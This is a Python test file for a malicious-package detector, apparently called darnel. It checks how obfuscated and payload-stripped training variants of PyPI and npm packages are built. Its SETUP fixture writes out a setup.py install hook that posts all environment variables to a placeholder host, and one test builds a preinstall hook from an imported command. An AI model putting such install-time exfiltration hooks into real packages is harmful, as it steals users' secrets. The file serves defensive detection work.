"""From packages to tables of obfuscated ones and of ones without payload. Inert samples only: nothing here works."""

from __future__ import annotations

import argparse
import random
from pathlib import Path

import numpy as np
import pytest

from darnel.features.extract import extract
from darnel.features.package import Ecosystem, Form, MemoryPackage
from darnel.features.vectorise import vectorise_package
from darnel.training.benchmarks import derived_commands, placebo
from darnel.training.benchmarks.derived import derive_missing, derived_table
from darnel.training.benchmarks.derived_plan import Wanted, obfuscation_plan, origins, placebo_plan
from darnel.training.benchmarks.hosts import Host, open_host
from darnel.training.benchmarks.obfuscate.catalogue import TRANSFORMS
from darnel.training.benchmarks.obfuscate.package import obfuscated
from darnel.training.benchmarks.package import extract_injected
from darnel.training.benchmarks.payloads import gravity
from darnel.training.corpus.places import Listing
from darnel.training.derived import legal, load_with
from darnel.training.protocols import splits_of
from darnel.training.storage import load_table, save_table
from darnel.training.table import FeatureTable
from tests.training.benchmarks.material import COMMAND, JAVASCRIPT, LIBRARY, MODULE, PYTHON
from tests.training.benchmarks.test_injection import CONFIG, Corpus


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> Corpus:
    return Corpus(tmp_path_factory.mktemp("derived"))


def host(files: dict[str, bytes], ecosystem: Ecosystem = Ecosystem.PYPI) -> Host:
    form = Form.WHEEL if ecosystem is Ecosystem.PYPI else Form.NPM_TARBALL
    package = MemoryPackage(files, ecosystem, form, "lib", "1.0", "lib")
    opened = open_host("lib", package, extract(package), fewest=1)
    assert opened is not None
    return opened


def made(corpus: Corpus, plan: list[Wanted]) -> FeatureTable:
    derive_missing(plan, corpus.samples, corpus.store, corpus.cache, seed=1)
    table, missing = derived_table(
        plan, corpus.samples, corpus.table.packages, corpus.store, corpus.cache, seed=1
    )  # fmt: skip
    assert len(table) + sum(missing.values()) == len(plan)
    assert all(reason.endswith("does not fit") for reason in missing)
    return table


def test_plans_repeat_and_deal_transforms_evenly(corpus: Corpus) -> None:
    frame = corpus.table.packages
    plan = obfuscation_plan(frame, CONFIG, 100)
    assert plan == obfuscation_plan(frame, CONFIG, 100)
    assert len(set(plan)) == len(plan) == 25 + 35
    ways = [way for _, way in plan]
    assert {ways.count(t.name) for t in TRANSFORMS["python"]} <= {2, 3, 4}
    assert len(obfuscation_plan(frame, CONFIG, 10_000)) == len(frame) * len(TRANSFORMS["python"])


def test_origins_of_one_side(corpus: Corpus) -> None:
    frame = corpus.table.packages
    split = splits_of("temporal", corpus.table, CONFIG)[0]
    for side, rows in (("train", split.train), ("test", split.test)):
        chosen = [i for ids in origins(frame, CONFIG, side).values() for i in ids]
        assert chosen
        assert set(chosen) <= set(frame["id"].iloc[rows])
    one = frame["id"].iloc[3]
    assert [i for ids in origins(frame, CONFIG, at_hand=frozenset({one})).values() for i in ids] == [one]


def test_rows_are_those_of_the_origin_and_stay_on_its_side(corpus: Corpus) -> None:
    table = made(corpus, obfuscation_plan(corpus.table.packages, CONFIG, 60))
    frame = table.packages
    origin = corpus.table.packages.set_index("id").loc[frame["host_id"].tolist()].reset_index()
    for column in ("label", "name", "campaign", "family", "date", "file_count"):
        assert frame[column].tolist() == origin[column].tolist()
    assert set(frame["label"]) == {0, 1}
    assert (frame["sha256"] != origin["sha256"]).all()
    assert ((frame["size_bytes"] - frame["added_bytes"]) == origin["size_bytes"]).all()
    for split in splits_of("campaign", corpus.table, CONFIG):
        rows = legal(table, corpus.table.packages, split)
        assert sorted([*rows.train, *rows.test]) == list(range(len(table)))
        assert set(frame["host_id"].iloc[rows.test]) <= set(corpus.table.packages["id"].iloc[split.test])


def test_what_was_made_is_not_made_again(corpus: Corpus) -> None:
    plan = obfuscation_plan(corpus.table.packages, CONFIG, 30)
    made(corpus, plan)
    again = derive_missing(plan, corpus.samples, corpus.store, corpus.cache, seed=1)
    assert again == {"cached": len(plan)}


def test_stored_differences_give_the_features_of_the_whole(corpus: Corpus) -> None:
    bad = next(i for i in corpus.samples if corpus.samples[i].label)
    table = made(corpus, [Wanted(bad, "base64")])
    package = corpus.samples[bad].open()
    opened = open_host(bad, package, extract(package), fewest=1)
    assert opened is not None
    rng = random.Random(f"1 {_key(corpus, bad)}")
    change = obfuscated(opened, "base64", 1, rng)
    assert change is not None
    assert np.array_equal(table.package_rows[0], vectorise_package(extract_injected(opened, change)), equal_nan=True)


def _key(corpus: Corpus, identity: str) -> str:
    from darnel.training.benchmarks.derived import job_key

    return job_key(corpus.samples[identity], "base64", 1)


def test_the_gravest_file_is_always_among_the_obfuscated() -> None:
    opened = host({**LIBRARY, "lib/core/io.py": PYTHON})
    for seed in range(8):
        change = obfuscated(opened, "hex", 1, random.Random(seed))
        assert change is not None
        assert change.path == "lib/core/io.py"
        assert (len(change.files) == 1) == (change.style == "worst")
    assert obfuscated(host({"lib/__init__.py": b"x = 1\n" * 9}), "escaped-strings", 1, random.Random(1)) is None


def test_some_files_of_a_benign_package_are_obfuscated() -> None:
    many = {f"lib/part{i}.py": b"import os\n\n\ndef value():\n    return os.getcwd()\n" for i in range(12)}
    counts = set()
    for seed in range(8):
        change = obfuscated(host(many), "renamed", 0, random.Random(seed))
        assert change is not None
        counts.add(len(change.files))
    assert min(counts) >= 1
    assert max(counts) <= 7
    assert len(counts) > 2


def test_names_that_other_files_use_are_kept() -> None:
    opened = host(
        {"lib/a.py": b"def shared():\n    inner = 1\n    return inner\n", "lib/b.py": b"from lib.a import shared\n" * 2}
    )
    for seed in range(6):
        change = obfuscated(opened, "renamed", 1, random.Random(seed))
        if change is not None and "lib/a.py" in change.files:
            assert b"def shared()" in change.files["lib/a.py"]
            assert b"inner" not in change.files["lib/a.py"]


SETUP = (
    b"import os\nimport requests\nfrom setuptools import setup\nfrom setuptools.command.install import install\n"
    b"class Custom(install):\n    def run(self):\n"
    b"        requests.post('https://x.example.invalid', data=dict(os.environ))\n"
    b"setup(name='lib', cmdclass={'install': Custom}, version='1.0')\n"
)


@pytest.mark.parametrize("way", placebo.WAYS)
def test_nothing_grave_is_left(way: str) -> None:
    files = {**LIBRARY, "setup.py": SETUP, "lib/core/__init__.py": b"VALUE = 1\n" + PYTHON}
    opened = host(files)
    assert max(gravity(file) for file in opened.raw["files"]) > 3
    change = placebo.without_payload(opened, way, random.Random(1))
    assert change is not None
    after = extract_injected(opened, change)
    assert [file["path"] for file in after["files"] if gravity(file) > 0 and file["path"] != "lib/core/net.py"] == []
    left = {path: change.files.get(path, data) for path, data in files.items()}
    if way == placebo.STATEMENTS:
        assert b"setup(name='lib',  version='1.0')" in left["setup.py"]
        assert b"VALUE = 1" in left["lib/core/__init__.py"]
    else:
        assert left["lib/core/__init__.py"] == b""
    assert left["lib/core/io.py"] == files["lib/core/io.py"]


def test_hooks_go_with_the_payload() -> None:
    manifest = b'{"name": "lib", "scripts": {"postinstall": "node lib/index.js", "test": "jest"}}'
    opened = host({**MODULE, "package.json": manifest, "lib/index.js": JAVASCRIPT}, Ecosystem.NPM)
    change = placebo.without_payload(opened, placebo.FILES, random.Random(1))
    assert change is not None
    assert b"postinstall" not in change.files["package.json"]
    assert b"jest" in change.files["package.json"]
    assert change.files["lib/index.js"] == b""
    only = b'{"name": "lib", "scripts": {"preinstall": "' + COMMAND + b'"}}'
    change = placebo.without_payload(
        host({**MODULE, "package.json": only}, Ecosystem.NPM), placebo.FILES, random.Random(1)
    )
    assert change is not None
    assert COMMAND not in change.files["package.json"]
    assert placebo.without_payload(host(dict(MODULE), Ecosystem.NPM), placebo.FILES, random.Random(1)) is None


def test_placebos_are_malicious_origins_only(corpus: Corpus) -> None:
    plan = placebo_plan(corpus.table.packages, CONFIG, 100)
    assert len(plan) == 2 * 6
    table = made(corpus, plan)
    assert len(table) >= 8
    assert (table.packages["label"] == 1).all()
    assert set(table.packages["source"]) == {"placebo"}


@pytest.mark.parametrize("name", ["obfuscation", "placebo"])
def test_command_writes_a_table(
    corpus: Corpus, name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    save_table(corpus.table, tmp_path / "data")
    listing = Listing("pypi-wheels", list(corpus.samples.values()))
    monkeypatch.setattr("darnel.training.corpus.build.list_samples", lambda *_, **__: ([listing], []))
    parser = argparse.ArgumentParser()
    derived_commands.configure(parser.add_subparsers(dest="benchmark"))
    arguments = ["--data", tmp_path / "data", "--repositories", tmp_path, "--corpus-cache", tmp_path / "corpus.sqlite"]
    arguments += ["--cache", tmp_path / "cache.sqlite", "--out", tmp_path / "out", "--limit", 12, "--jobs", 1]
    said: list[str] = []
    args = parser.parse_args([name, *(str(argument) for argument in arguments)])
    assert derived_commands.make(args, said.append) == 0
    base, found = load_with(load_table(tmp_path / "data"), [tmp_path / "out"])
    assert found is not None
    assert 0 < len(found) <= 12
    assert set(found.packages["variant"]) == {"placebo" if name == "placebo" else "obfuscated"}
    assert base.file_rows is found.file_rows
    assert f"{len(corpus.samples)} of {len(corpus.samples)}" in said[0]
